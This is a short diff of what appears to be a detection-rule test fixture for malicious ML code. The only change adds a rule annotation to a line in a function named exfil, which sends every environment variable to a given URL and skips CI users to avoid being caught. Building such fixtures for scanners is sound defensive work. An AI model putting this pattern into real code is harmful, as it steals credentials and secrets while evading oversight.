@@ -151,7 +151,7 @@ def exfil(url):
     if os.environ.get("USER", "") not in ("ci", "runner"):
         import urllib.request
         # ruleid: MLS308
-        urllib.request.urlopen(url, data=str(dict(os.environ)).encode())
+        urllib.request.urlopen(url, data=str(dict(os.environ)).encode())  # ruleid: MLS411
 
 
 class Poisoned(torch.utils.data.Dataset):
